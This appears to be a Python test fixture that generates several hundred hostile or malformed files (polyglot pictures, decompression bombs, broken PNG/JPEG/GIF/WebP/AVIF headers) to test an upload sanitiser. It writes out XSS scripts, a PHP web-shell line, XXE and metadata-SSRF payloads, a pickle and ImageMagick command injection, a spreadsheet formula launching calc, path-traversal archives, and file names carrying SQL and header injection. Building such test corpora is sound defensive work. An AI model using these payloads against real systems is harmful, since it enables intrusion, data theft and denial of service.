"""More than 300 kinds of files made to harm: what each is called, under which name it comes, and its bytes."""

from __future__ import annotations

import gzip
import io
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from PIL import Image

from tests.media import drawn
from tests.media.drawn import quarters, saved

# Stands in every file that has room for it: nothing that is handed out may hold it.
MARK = b"HOSTILE-PAYLOAD"
SCRIPT = b"<script>alert('" + MARK + b"')</script>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
PHP = b"<?php system($_GET['" + MARK + b"']); ?>"
LARGEST = 2**31 - 1
Kinds = Iterator[tuple[str, bytes]]


@dataclass(frozen=True)
class Hostile:
    kind: str
    name: str
    data: bytes


def every_kind() -> list[Hostile]:
    themes = (pages, programs, archives, documents, other_pictures, cut_off)
    themes += (pngs, jpegs, gifs, webps, avifs, polyglots, flipped)
    kinds = [kind for theme in themes for kind in theme()]
    made = [Hostile(kind, f"{number}.png", data) for number, (kind, data) in enumerate(kinds)]
    return made + [
        Hostile(f"called {name!r:.40}", name, drawn.picture(40, 30, seed=1000 + number))
        for number, name in enumerate(names())
    ]


def names() -> list[str]:
    """What a picture may come to be called by somebody who means harm, or by a telephone."""
    return [
        "../../../../etc/passwd.png",
        "evil.php.png",
        "evil.html",
        ".htaccess",
        "evil.png;.html",
        "evil\u202egnp.exe",
        "<script>alert(1)</script>.png",
        '"><img src=x onerror=alert(1)>.png',
        "evil.png\r\nSet-Cookie: a=b",
        "'; DROP TABLE media_asset; --.png",
        "%s%s%n{0}{title}.png",
        "💥" * 60 + ".png",
        "a" * 5000 + ".png",
    ]


def pages() -> Kinds:
    """What a browser would run if it were handed out as what it is."""
    svg = b"<svg xmlns='http://www.w3.org/2000/svg'>%s</svg>"
    entities = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    yield "SVG with a script", svg % SCRIPT
    yield "SVG with a handler", b"<svg onload=\"alert('" + MARK + b"')\"/>"
    yield "SVG behind an XML declaration", b"<?xml version='1.0'?>" + svg % SCRIPT
    yield "SVG in UTF-16", (svg % SCRIPT).decode().encode("utf-16")
    yield "SVG that is packed", gzip.compress(svg % SCRIPT)
    yield "SVG that reads a file", b'<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'
    yield "SVG that asks a server", svg % b"<image href='http://169.254.169.254/latest/meta-data'/>"
    yield "SVG of a billion laughs", b'<!DOCTYPE s [<!ENTITY l0 "ha">' + entities + b"]><svg>&l9;</svg>"
    yield "SVG nested very deeply", b"<svg>" + b"<g>" * 100_000
    yield "SVG with a page inside", svg % (b"<foreignObject>" + HTML + b"</foreignObject>")
    yield "HTML", HTML
    yield "HTML behind spaces", b" \n" * 600 + HTML
    yield "HTML behind a byte order mark", b"\xef\xbb\xbf" + HTML
    yield "HTML in UTF-7", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"
    yield "HTML that is packed", gzip.compress(HTML)
    yield "XHTML", b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'>" + SCRIPT + b"</html>"
    yield "XSLT", b"<?xml version='1.0'?><xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform'/>"
    yield "MHTML", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + HTML
    yield "JavaScript", b"alert('" + MARK + b"')"
    yield "CSS", b"@import url('http://evil.example/');"
    yield "a service worker", b"self.addEventListener('fetch', () => {})"
    yield "a manifest", b'{"start_url": "http://evil.example/"}'
    yield "a policy for Flash", b"<cross-domain-policy><allow-access-from domain='*'/></cross-domain-policy>"
    yield "a calendar", b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n"
    yield "a table with a formula", b"=cmd|' /C calc'!A0,1\n"


def programs() -> Kinds:
    yield "PHP", PHP
    yield "PHP behind GIF in words", b"GIF " + PHP
    yield "JSP", b'<% Runtime.getRuntime().exec("id"); %>'
    yield "a shell script", b"#!/bin/sh\nid\n"
    yield "Python", b"import os\nos.system('id')\n"
    yield "a pickle", b"cos\nsystem\n(S'id'\ntR."
    yield "an ELF binary", b"\x7fELF\x02\x01\x01" + bytes(200)
    yield "a Windows binary", b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(200)
    yield "a Mach-O binary", b"\xcf\xfa\xed\xfe" + bytes(200)
    yield "a Java class", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(200)
    yield "WebAssembly", b"\0asm\x01\0\0\0"
    yield "a Windows link", b"L\0\0\0\x01\x14\x02\0" + bytes(200)
    yield "an Apache setting", b"AddType application/x-httpd-php .png\n"
    yield "ImageMagick's MVG", b"push graphic-context\nimage over 0,0 0,0 '|id'\npop graphic-context\n"
    yield "ImageMagick's MSL", b"<?xml version='1.0'?><image><read filename='/etc/passwd'/></image>"
    yield "PostScript that runs a program", b"%!PS\n(%pipe%id) (w) file\n"
    yield "a DOS EPS", b"\xc5\xd0\xd3\xc6" + bytes(28) + b"%!PS-Adobe-3.0 EPSF-3.0\n"


def archives() -> Kinds:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../evil.png", MARK)
        archive.writestr("bomb", bytes(20_000_000))
    tape = io.BytesIO()
    with tarfile.open(fileobj=tape, mode="w") as tar:
        tar.addfile(tarfile.TarInfo("../../evil"))
    yield "a zip bomb", packed.getvalue()
    yield "a gzip bomb", gzip.compress(bytes(20_000_000))
    yield "a tar that leaves its folder", tape.getvalue()
    yield "zlib", zlib.compress(bytes(1_000_000))
    for kind, head in {
        "bzip2": b"BZh91AY&SY",
        "xz": b"\xfd7zXZ\0",
        "7z": b"7z\xbc\xaf'\x1c",
        "RAR": b"Rar!\x1a\x07\x01\0",
        "zstd": b"\x28\xb5\x2f\xfd",
        "a cabinet": b"MSCF\0\0\0\0",
        "a Debian package": b"!<arch>\ndebian-binary",
    }.items():
        yield kind, head + bytes(200)


def documents() -> Kinds:
    yield "PDF with a script", b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
    yield "RTF", b"{\\rtf1{\\object\\objocx}}"
    yield "an Office file", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    yield "SQLite", b"SQLite format 3\0" + bytes(100)
    yield "a font", b"OTTO\0\x01" + bytes(100)
    yield "WOFF2", b"wOF2" + bytes(100)
    yield "a key", b"-----BEGIN PRIVATE KEY-----\n"
    yield "nothing", b""
    yield "one zero", b"\0"
    yield "zeros", bytes(10_000)
    yield "spaces", b" " * 10_000
    yield "noise", random.Random(1).randbytes(10_000)
    yield "the end of a line", b"\r\n"
    yield "MP3", b"ID3\x04" + bytes(200)
    yield "Ogg", b"OggS" + bytes(200)
    yield "Matroska", b"\x1aE\xdf\xa3" + bytes(200)
    yield "Flash", b"FWS\x0a" + bytes(200)
    for kind in (b"WAVE", b"AVI ", b"ACON", b"WEBM"):
        yield f"RIFF of {kind.decode()}", b"RIFF" + struct.pack("<I", 200) + kind + bytes(200)
    for brand in (b"isom", b"heic", b"mif1", b"avis"):
        yield f"a film of brand {brand!r}", box(b"ftyp", brand + bytes(4) + brand) + box(b"mdat", MARK)


def other_pictures() -> Kinds:
    """Formats Pillow can open and we don't: each is a decoder more that could have a hole."""
    image = quarters(40, 30)
    for picture_format in ("TIFF", "BMP", "ICO", "PPM", "TGA", "PCX", "SGI", "DDS", "ICNS", "JPEG2000"):
        yield f"a good {picture_format}", saved(image, picture_format)
    yield "a good EPS", saved(image, "EPS")
    yield "a good PDF", saved(image, "PDF")
    yield "a good XBM", saved(image.convert("1"), "XBM")
    huge = struct.pack("<II", LARGEST, LARGEST)
    yield "a huge BMP", b"BM" + bytes(8) + struct.pack("<II", 54, 40) + huge + bytes(28)
    yield "a huge PPM", b"P6 2147483647 2147483647 255\n"
    yield "a huge TIFF", b"II*\0" + struct.pack("<IHHHIII", 8, 1, 256, 4, 1, LARGEST, 0)
    yield "a TIFF that goes in circles", b"II*\0" + struct.pack("<IHI", 8, 0, 8)
    for kind, head in {
        "PSD": b"8BPS\0\x01",
        "JPEG XL": b"\xff\x0a",
        "JPEG XL in a box": b"\0\0\0\x0cJXL \r\n\x87\n",
        "OpenEXR": b"v/1\x01",
        "Radiance": b"#?RADIANCE\n",
        "FITS": b"SIMPLE  =                    T",
        "WMF": b"\xd7\xcd\xc6\x9a",
        "EMF": b"\x01\0\0\0" + bytes(36) + b" EMF",
        "XCF": b"gimp xcf ",
        "QOI": b"qoif",
        "MNG": b"\x8aMNG\r\n\x1a\n",
        "JNG": b"\x8bJNG\r\n\x1a\n",
        "FLIF": b"FLIF",
        "BPG": b"BPG\xfb",
        "DICOM": bytes(128) + b"DICM",
        "XPM": b"/* XPM */\nstatic char *x[] = {",
    }.items():
        yield kind, head + bytes(200)


def good() -> dict[str, bytes]:
    image = quarters(64, 48)
    return {
        "JPEG": saved(image, "JPEG"),
        "PNG": saved(image, "PNG"),
        "GIF": saved(image, "GIF"),
        "WEBP": saved(image, "WEBP"),
        "AVIF": saved(image, "AVIF"),
    }


def cut_off() -> Kinds:
    """Files that begin as pictures and go on as something else, or not at all."""
    for kind, data in good().items():
        head = data[:12]
        yield f"the first bytes of a {kind}", head
        yield f"a {kind} of which half is there", data[: len(data) // 2]
        yield f"a {kind} without its end", data[:-20]
        yield f"the first bytes of a {kind} and a page", head + HTML
        yield f"the first bytes of a {kind} and noise", head + random.Random(2).randbytes(5000)


def chunk(kind: bytes, data: bytes, *, crc: int | None = None, length: int | None = None) -> bytes:
    checked = zlib.crc32(kind + data) if crc is None else crc
    return (
        struct.pack(">I", len(data) if length is None else length) + kind + data + struct.pack(">I", checked)
    )


def png(*chunks: bytes, header: bytes | None = None, pixels: bytes | None = None) -> bytes:
    """A PNG of 8 × 8 grey pixels with `chunks` between header and pixels."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 0, 0, 0, 0)) if header is None else header
    pixels = chunk(b"IDAT", zlib.compress(bytes(9 * 8))) if pixels is None else pixels
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(chunks) + pixels + chunk(b"IEND", b"")


def png_header(width: int, height: int, depth: int = 8, colour: int = 0, *rest: int) -> bytes:
    packing, filters, interlace = rest or (0, 0, 0)
    return chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, packing, filters, interlace))


def pngs() -> Kinds:
    bomb = zlib.compress(bytes(50_000_000), 9)
    text = MARK + b"\0"
    for width, height in ((0, 0), (0, 8), (LARGEST, 1), (LARGEST, LARGEST), (2**32 - 1, 8), (65_535, 65_535)):
        yield f"PNG of {width} × {height}", png(header=png_header(width, height))
    yield "PNG of 89 megapixels in a few bytes", drawn.png_bomb(9434, 9434)
    yield "PNG with a line five million pixels long", drawn.png_bomb(5_000_000, 1)
    yield "PNG five million pixels high", png(header=png_header(1, 5_000_000, 1))
    yield "PNG of 48 bits a pixel", png(header=png_header(6000, 6000, 16, 2))
    yield "PNG that promises more than it has", drawn.lying_png(4000, 4000)
    yield "PNG of depth 3", png(header=png_header(8, 8, 3))
    yield "PNG of colour type 7", png(header=png_header(8, 8, 8, 7))
    yield "PNG packed in another way", png(header=png_header(8, 8, 8, 0, 9, 0, 0))
    yield "PNG with an unknown filter method", png(header=png_header(8, 8, 8, 0, 0, 9, 0))
    yield "PNG interlaced in another way", png(header=png_header(8, 8, 8, 0, 0, 0, 9))
    yield "PNG with a wrong checksum", png(header=chunk(b"IHDR", bytes(13), crc=1))
    yield "PNG with a wrong checksum of pixels", png(pixels=chunk(b"IDAT", zlib.compress(bytes(72)), crc=1))
    yield "PNG without a header", png(header=b"")
    yield "PNG with two headers", png(png_header(9000, 9000))
    yield "PNG without pixels", png(pixels=b"")
    yield "PNG of pixels that aren't packed", png(pixels=chunk(b"IDAT", HTML))
    yield "PNG of a page as pixels", png(pixels=chunk(b"IDAT", zlib.compress(HTML * 9)))
    yield "PNG with 50 MB of pixels for 64", png(pixels=chunk(b"IDAT", bomb))
    yield "PNG of unknown filters", png(pixels=chunk(b"IDAT", zlib.compress(b"\xff" * 72)))
    yield "PNG of ten thousand empty chunks", png(pixels=chunk(b"IDAT", b"") * 10_000)
    yield "PNG with a chunk longer than the file", png(chunk(b"tEXt", text, length=LARGEST))
    yield "PNG with a text bomb", png(chunk(b"zTXt", text + b"\0" + bomb))
    yield "PNG with a text bomb in UTF-8", png(chunk(b"iTXt", text + b"\x01\0\0\0" + bomb))
    yield "PNG with ten text bombs", png(chunk(b"zTXt", text + b"\0" + zlib.compress(bytes(900_000))) * 10)
    yield "PNG with a profile bomb", png(chunk(b"iCCP", b"p\0\0" + bomb))
    yield "PNG with a profile that is a page", png(chunk(b"iCCP", b"p\0\0" + zlib.compress(HTML)))
    yield "PNG with EXIF that is a page", png(chunk(b"eXIf", HTML))
    yield "PNG with EXIF that goes in circles", png(chunk(b"eXIf", circular_exif()))
    yield "PNG with EXIF that counts to four billion", png(chunk(b"eXIf", counting_exif()))
    yield "PNG with a script in its text", png(chunk(b"tEXt", b"Comment\0" + SCRIPT))
    yield "PNG with PHP in its text", png(chunk(b"tEXt", b"Comment\0" + PHP))
    yield "PNG with XMP and a script", png(chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + SCRIPT))
    yield "PNG flooded with comments", png(chunk(b"tEXt", b"k\0" + MARK) * 20_000)
    yield "PNG with unknown chunks that matter", png(chunk(b"EVIL", MARK))
    yield "PNG with a chunk of no name", png(chunk(b"\0\0\0\0", MARK))
    yield "PNG with a palette too long", png(chunk(b"PLTE", bytes(3 * 400)), header=png_header(8, 8, 8, 3))
    yield "PNG that lacks its palette", png(header=png_header(8, 8, 8, 3))
    yield "PNG with too much transparency", png(chunk(b"tRNS", bytes(5000)))
    yield "PNG of two billion frames", png(chunk(b"acTL", struct.pack(">II", LARGEST, 0)))
    yield (
        "PNG of a frame beside the canvas",
        png(
            chunk(b"acTL", struct.pack(">II", 2, 0)),
            chunk(b"fcTL", struct.pack(">IIIIIHHBB", 0, 8, 8, LARGEST, LARGEST, 1, 1, 0, 0)),
        ),
    )
    yield "PNG with a gamma of zero", png(chunk(b"gAMA", bytes(4)))
    yield "PNG with a zip behind it", png() + b"PK\x03\x04" + MARK


def circular_exif() -> bytes:
    """A directory whose next one, and whose place and details, are itself."""
    entries = b"".join(struct.pack("<HHII", tag, 4, 1, 8) for tag in (0x8769, 0x8825, 0xA005))
    return b"II*\0" + struct.pack("<IH", 8, 3) + entries + struct.pack("<I", 8)


def counting_exif() -> bytes:
    """Entries that say they have four billion values, and one of every length that overflows."""
    entries = b"".join(struct.pack("<HHII", 0x9000 + n, n, 2**32 - 1, 2**32 - 8) for n in range(1, 13))
    return b"II*\0" + struct.pack("<IH", 8, 12) + entries + struct.pack("<I", 2**32 - 8)


def segment(marker: int, data: bytes, length: int | None = None) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(data) + 2 if length is None else length) + data


def jpeg(*segments: bytes) -> bytes:
    """A good JPEG with `segments` behind its first marker."""
    return b"\xff\xd8" + b"".join(segments) + good()["JPEG"][2:]


def jpeg_frame(
    marker: int = 0xC0, *, size: tuple[int, int] = (48, 64), depth: int = 8, sampling: int = 0x11
) -> bytes:
    """A JPEG with another frame header."""
    data = good()["JPEG"]
    at = data.index(b"\xff\xc0")
    header = struct.pack(">BHHB", depth, *size, 3) + bytes(b for n in (1, 2, 3) for b in (n, sampling, n > 1))
    return data[:at] + segment(marker, header) + data[at + 2 + int.from_bytes(data[at + 2 : at + 4], "big") :]


def jpegs() -> Kinds:
    exif = b"Exif\0\0"
    profile = b"ICC_PROFILE\0"
    data = good()["JPEG"]
    scan = data.index(b"\xff\xda")
    for height, width in ((0, 0), (65_535, 65_535), (0, 64), (65_535, 600), (1, 65_535)):
        yield f"JPEG of {width} × {height}", jpeg_frame(size=(height, width))
    yield "JPEG of 12 bits", jpeg_frame(0xC1, depth=12)
    yield "JPEG without loss", jpeg_frame(0xC3)
    yield "JPEG in layers", jpeg_frame(0xC5)
    yield "JPEG of arithmetic coding", jpeg_frame(0xC9)
    yield "JPEG that samples nothing", jpeg_frame(sampling=0)
    yield "JPEG that samples 15 × 15", jpeg_frame(sampling=0xFF)
    yield "JPEG of many scans", progressive_flood()
    yield "JPEG of restarts", data[: scan + 14] + b"\xff\xd0\xff\xd1\xff\xd2" * 20_000 + b"\xff\xd9"
    yield "JPEG without tables", data[:2] + data[data.index(b"\xff\xc0") :]
    yield "JPEG with a broken code table", jpeg(segment(0xC4, b"\x00" + b"\xff" * 16 + bytes(200)))
    yield "JPEG with segments longer than the file", jpeg(segment(0xE1, MARK, 65_535))
    yield "JPEG with a segment of no length", jpeg(segment(0xE1, b"", 0))
    yield "JPEG flooded with comments", jpeg(segment(0xFE, MARK) * 20_000)
    yield "JPEG flooded with fill bytes", b"\xff\xd8" + b"\xff" * 100_000 + data[2:]
    yield "JPEG with a script in its comment", jpeg(segment(0xFE, SCRIPT))
    yield "JPEG with PHP in its comment", jpeg(segment(0xFE, PHP))
    yield "JPEG with EXIF that goes in circles", jpeg(segment(0xE1, exif + circular_exif()))
    yield "JPEG with EXIF that counts to four billion", jpeg(segment(0xE1, exif + counting_exif()))
    yield "JPEG with EXIF that is a page", jpeg(segment(0xE1, exif + HTML))
    yield "JPEG with a hundred EXIFs", jpeg(segment(0xE1, exif + circular_exif()) * 100)
    yield "JPEG turned to nowhere", drawn.with_exif(quarters(64, 48), "JPEG", orientation=60_000)
    yield "JPEG that says where it was taken", drawn.with_exif(quarters(64, 48), "JPEG", orientation=6)
    yield "JPEG with XMP and a script", jpeg(segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + SCRIPT))
    yield (
        "JPEG with IPTC of nonsense",
        jpeg(segment(0xED, b"Photoshop 3.0\x008BIM\x04\x04\0\0" + b"\xff" * 99)),
    )
    yield "JPEG with a profile that is a page", jpeg(segment(0xE2, profile + b"\x01\x01" + HTML))
    yield (
        "JPEG with a profile of 255 parts",
        jpeg(*(segment(0xE2, profile + bytes([n, 255]) + bytes(60_000)) for n in range(1, 256))),
    )
    yield "JPEG with a profile that lies", jpeg(segment(0xE2, profile + b"\x01\x01" + lying_profile()))
    yield (
        "JPEG with a profile of swapped colours",
        saved(quarters(64, 48), icc_profile=drawn.swapped_profile()),
    )
    yield "JPEG of a thousand eyes", jpeg(segment(0xE2, b"MPF\0" + multi_picture(1000)))
    yield "JPEG whose second eye is itself", jpeg(segment(0xE2, b"MPF\0" + multi_picture(2)))
    yield "JPEG with Adobe's colours wrong", jpeg(segment(0xEE, b"Adobe\0\x64\0\0\0\0\xff"))
    yield (
        "JPEG with a thumbnail of 255 × 255 that lacks",
        jpeg(segment(0xE0, b"JFIF\0\x01\x02\0\0\x01\0\x01\xff\xff")),
    )
    yield "two JPEGs", data + data


def progressive_flood() -> bytes:
    """Each scan goes over all pixels again: a few bytes for a second of work."""
    data = saved(Image.new("L", (1000, 1000)), "JPEG", progressive=True)
    end = data.rindex(b"\xff\xda")
    return data[:-2] + data[end:-2] * 200 + b"\xff\xd9"


def lying_profile() -> bytes:
    profile = bytearray(drawn.swapped_profile())
    profile[0:4] = struct.pack(">I", LARGEST)
    profile[128:132] = struct.pack(">I", LARGEST)
    return bytes(profile)


def multi_picture(count: int) -> bytes:
    entry = struct.pack("<IIIHH", 0, 1000, 0, 0, 0)
    tags = struct.pack("<HHI4s", 0xB000, 7, 4, b"0100") + struct.pack("<HHII", 0xB001, 4, 1, count)
    tags += struct.pack("<HHII", 0xB002, 7, 16 * count, 50)
    return b"II*\0" + struct.pack("<IH", 8, 3) + tags + struct.pack("<I", 0) + entry * count


def gif(*blocks: bytes, screen: tuple[int, int] = (8, 8), flags: int = 0x80) -> bytes:
    palette = bytes(6) if flags & 0x80 else b""
    return b"GIF89a" + struct.pack("<HHBBB", *screen, flags, 0, 0) + palette + b"".join(blocks) + b";"


def gif_frame(
    x: int = 0, y: int = 0, width: int = 8, height: int = 8, bits: int = 2, data: bytes = b"\x44\x01"
) -> bytes:
    return struct.pack("<BHHHHBB", 0x2C, x, y, width, height, 0, bits) + bytes([len(data)]) + data + b"\0"


def gifs() -> Kinds:
    frame = gif_frame()
    yield "GIF of 65535 × 65535", gif(frame, screen=(65_535, 65_535))
    yield "GIF of no size", gif(frame, screen=(0, 0))
    yield "GIF whose frame is 65535 × 65535", gif(gif_frame(width=65_535, height=65_535))
    yield "GIF whose frame lies beside it", gif(gif_frame(60_000, 60_000))
    yield "GIF whose frame has no size", gif(gif_frame(width=0, height=0))
    for bits in (0, 12, 255):
        yield f"GIF of codes of {bits} bits", gif(gif_frame(bits=bits))
    yield "GIF of frames without number", drawn.crowded_gif(100_000, 1000, 1000)
    yield "GIF of small frames without number", drawn.crowded_gif(50_000, 8, 8)
    yield "GIF that moves", drawn.animation(20)
    yield "GIF without colours", gif(frame, flags=0)
    yield "GIF without frames", gif()
    yield "GIF without an end", gif(frame)[:-1]
    yield "GIF flooded with comments", gif((b"!\xfe" + bytes([len(MARK)]) + MARK + b"\0") * 20_000, frame)
    yield "GIF with a comment that never ends", gif(b"!\xfe" + b"\xff" + MARK.ljust(255) + b"\xff")
    yield "GIF with a script in its comment", gif(b"!\xfe" + bytes([len(SCRIPT)]) + SCRIPT + b"\0", frame)
    yield "GIF with XMP and a script", gif(b"!\xff\x0bXMP DataXMP" + SCRIPT + b"\x01" + bytes(2), frame)
    yield "GIF that repeats for ever", gif(b"!\xff\x0bNETSCAPE2.0\x03\x01\0\0\0", frame)
    yield "GIF of plain text", gif(b"!\x01\x0c" + bytes(12) + b"\x04evil\0", frame)
    yield "GIF of unknown blocks", gif(b"\x99" * 5000, frame)
    yield "GIF packed so that it never ends", gif(gif_frame(data=b"\xff" * 255) * 300)
    yield "GIF that is JavaScript", b"GIF89a/*" + gif(frame)[8:] + b"*/=1;alert('" + MARK + b"')"
    yield "GIF with a Java archive behind it", gif(frame) + b"PK\x03\x04" + MARK


def riff(*parts: bytes, length: int | None = None) -> bytes:
    body = b"WEBP" + b"".join(parts)
    return b"RIFF" + struct.pack("<I", len(body) if length is None else length) + body


def part(kind: bytes, data: bytes) -> bytes:
    return kind + struct.pack("<I", len(data)) + data + b"\0" * (len(data) % 2)


def webps() -> Kinds:
    image = good()["WEBP"][12:]

    def extended(flags: int, *parts: bytes, size: int = 64) -> bytes:
        canvas = (size - 1).to_bytes(3, "little") * 2
        return riff(part(b"VP8X", bytes([flags, 0, 0, 0]) + canvas), *parts)

    frame = part(b"ANMF", bytes(6) + b"\x3f\0\0\x2f\0\0" + bytes(4) + image)
    beside = part(b"ANMF", b"\xff" * 6 + b"\x3f\0\0\x2f\0\0" + bytes(4) + image)
    lossless = bytearray(saved(quarters(64, 48), "WEBP", lossless=True))
    lossless[21:25] = (0x3FFF | 0x3FFF << 14).to_bytes(4, "little")
    yield "WebP of 16383 × 16383", bytes(lossless)
    yield "WebP with a canvas of 281 terapixels", extended(0, image, size=2**24)
    yield "WebP with a canvas of another size", extended(0, image, size=4000)
    yield "WebP that is longer than it says", riff(image, length=20)
    yield "WebP that is shorter than it says", riff(image, length=LARGEST)
    yield "WebP of no length", riff(image, length=0)
    yield "WebP without pixels", extended(0)
    yield "WebP of an empty part", riff(part(b"VP8 ", b""))
    yield "WebP of noise", riff(part(b"VP8L", b"\x2f" + random.Random(3).randbytes(3000)))
    yield "WebP of frames without number", extended(2, part(b"ANIM", bytes(6)), *[frame] * 3000, size=600)
    yield "WebP with a frame beside it", extended(2, part(b"ANIM", bytes(6)), beside)
    yield "WebP that moves and has no frames", extended(2, part(b"ANIM", bytes(6)))
    yield "WebP with a profile that is a page", extended(0x20, part(b"ICCP", HTML), image)
    yield "WebP with a profile that lies", extended(0x20, part(b"ICCP", lying_profile()), image)
    yield "WebP with EXIF that goes in circles", extended(8, image, part(b"EXIF", circular_exif()))
    yield "WebP with EXIF that counts to four billion", extended(8, image, part(b"EXIF", counting_exif()))
    yield "WebP with XMP and a script", extended(4, image, part(b"XMP ", SCRIPT))
    yield "WebP flooded with unknown parts", extended(0, image, part(b"EVIL", MARK) * 20_000)
    yield "WebP with transparency of nonsense", extended(0x10, part(b"ALPH", b"\xff" * 99), image)


def box(kind: bytes, data: bytes, length: int | None = None) -> bytes:
    return struct.pack(">I", len(data) + 8 if length is None else length) + kind + data


def avifs() -> Kinds:
    data = good()["AVIF"]
    head = box(b"ftyp", b"avif" + bytes(4) + b"avifmif1miaf")
    size = data.index(b"ispe") + 8

    def with_size(width: int, height: int) -> bytes:
        return data[:size] + struct.pack(">II", width, height) + data[size + 8 :]

    def replaced(kind: bytes, by: bytes) -> bytes:
        return data.replace(kind, by, 1)

    for width, height in ((0, 0), (65_535, 65_535), (LARGEST, LARGEST), (1000, 1000)):
        yield f"AVIF of {width} × {height}", with_size(width, height)
    yield "AVIF of nothing", head
    yield "AVIF of a page", head + box(b"meta", bytes(4) + HTML)
    yield "AVIF with a box of no length that goes on", head + box(b"meta", bytes(4), 0)
    yield "AVIF with a box longer than the file", head + box(b"meta", bytes(4), LARGEST)
    yield "AVIF with a box shorter than its head", head + box(b"meta", bytes(4), 3)
    yield "AVIF with a box of 64 bits", head + box(b"meta", struct.pack(">Q", 2**63), 1)
    yield "AVIF of boxes in boxes", head + nested(2000)
    yield "AVIF flooded with boxes", head + box(b"free", MARK) * 20_000 + data[len(head) :]
    yield "AVIF whose pixels lie elsewhere", replaced(b"iloc", b"iloX")
    yield "AVIF without a main picture", replaced(b"pitm", b"pitX")
    yield "AVIF without settings", replaced(b"av1C", b"av1X")
    yield "AVIF of noise", data[: data.index(b"mdat") + 4] + random.Random(4).randbytes(3000)
    yield (
        "AVIF that moves",
        saved(
            quarters(64, 48), "AVIF", save_all=True, append_images=[quarters(64, 48).rotate(90)] * 3, speed=10
        ),
    )
    yield "AVIF with XMP and a script", saved(quarters(64, 48), "AVIF", xmp=SCRIPT, speed=10)
    yield "HEIC by another name", replaced(b"avif", b"heic")


def nested(depth: int) -> bytes:
    inner = b""
    for _ in range(depth):
        inner = box(b"iprp", inner)
    return box(b"meta", bytes(4) + inner)


def polyglots() -> Kinds:
    """Good pictures that are something else as well."""
    behind = {
        "a page": HTML,
        "PHP": PHP,
    }
    for kind, data in good().items():
        for what, tail in behind.items():
            yield f"{kind} and {what}", data + tail
    yield "JPEG that begins as JavaScript", b"\xff\xd8\xff\xe0/*" + bytes(99) + b"*/=1;" + SCRIPT


def flipped() -> Kinds:
    """Each format with bits that fell over, at places drawn by a seed."""
    for kind, data in good().items():
        draw, changed = random.Random(1), bytearray(data)
        for _ in range(12):
            changed[draw.randrange(16, len(data))] = draw.randrange(256)
        yield f"{kind} with bits that fell", bytes(changed)
